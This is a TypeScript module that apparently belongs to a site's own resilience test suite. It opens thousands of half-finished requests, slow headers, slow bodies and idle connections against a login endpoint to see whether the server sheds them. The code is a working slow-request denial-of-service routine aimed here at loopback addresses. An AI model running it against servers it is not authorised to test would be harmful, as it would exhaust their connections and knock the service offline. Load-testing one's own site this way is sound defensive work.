import { readFile } from "node:fs/promises";
import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Attack } from "./attack-run.ts";

const FORM_BYTES = 8 * 1024 * 1024;
const HELD_S = 15;
const SECOND_MS = 1_000;
const MIN_OPEN_FILES = 4_000;

const POST = [
  "POST /admin/login HTTP/1.1",
  "Host: localhost",
  "Sec-Fetch-Site: same-origin",
  "Content-Type: application/x-www-form-urlencoded",
].join("\r\n");

type Kind = { from: string; count: number; first: string; body?: Buffer; slowly: string };

const KINDS: Record<string, Kind> = {
  "unfinished forms of 8 MB": {
    from: "127.0.0.50",
    count: 100,
    first: `${POST}\r\nContent-Length: ${FORM_BYTES}\r\n\r\n`,
    body: Buffer.alloc(FORM_BYTES - 1, "a"),
    slowly: "",
  },
  "slow heads": { from: "127.0.0.51", count: 500, first: "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", slowly: "a" },
  "slow bodies": { from: "127.0.0.52", count: 500, first: `${POST}\r\nContent-Length: 10000\r\n\r\n`, slowly: "a" },
  "idle connections": { from: "127.0.0.53", count: 2_000, first: "", slowly: "" },
};

export const connections: Attack = {
  name: `Unfinished requests and idle connections, ${HELD_S} s`,
  async prepare() {
    const limits = await readFile("/proc/self/limits", "utf8");
    const openFiles = Number(/^Max open files\s+\d+\s+(\d+)/m.exec(limits)?.[1] ?? Infinity);
    if (openFiles < MIN_OPEN_FILES)
      throw new Error(`This drill needs ${MIN_OPEN_FILES} open files: ulimit -n ${MIN_OPEN_FILES}.`);
  },
  async run({ site: { origin } }) {
    const held = Object.entries(KINDS).map(([name, kind]) => ({ name, kind, all: hold(origin, kind) }));
    for (let second = 0; second < HELD_S; second++) {
      await pause(SECOND_MS);
      for (const { kind, all } of held) if (kind.slowly) for (const { socket } of all) socket.write(kind.slowly);
    }
    const rows = held.map(({ name, all }) => [name, summary(all)] as const);
    for (const { all } of held) for (const { socket } of all) socket.destroy();
    return { tables: { [`After ${HELD_S} s`]: Object.fromEntries(rows) }, promised: [] };
  },
};

type Held = { socket: Socket; received: string; isConnected: boolean; isEnded: boolean };

function hold(origin: string, { from, count, first, body }: Kind): Held[] {
  const { hostname, port } = new URL(origin);
  return Array.from({ length: count }, () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: from });
    const held: Held = { socket, received: "", isConnected: false, isEnded: false };
    socket.once("connect", () => (held.isConnected = true));
    socket.setEncoding("latin1").on("data", (text: string) => (held.received += text));
    socket.on("error", () => undefined).once("close", () => (held.isEnded = true));
    if (first) socket.write(first);
    if (body) socket.write(body);
    return held;
  });
}

function summary(all: readonly Held[]) {
  const answered = all.flatMap(({ received }) => /^HTTP\/1\.1 (\d+)/.exec(received)?.[1] ?? []);
  const statuses = Object.entries(Object.groupBy(answered, (status) => status));
  return {
    connections: all.length,
    "never connected": all.filter(({ isConnected }) => !isConnected).length,
    "ended by the site": all.filter(({ isConnected, isEnded }) => isConnected && isEnded).length,
    answers: statuses.map(([status, each]) => `${each?.length ?? 0} × ${status}`).join(", "),
  };
}
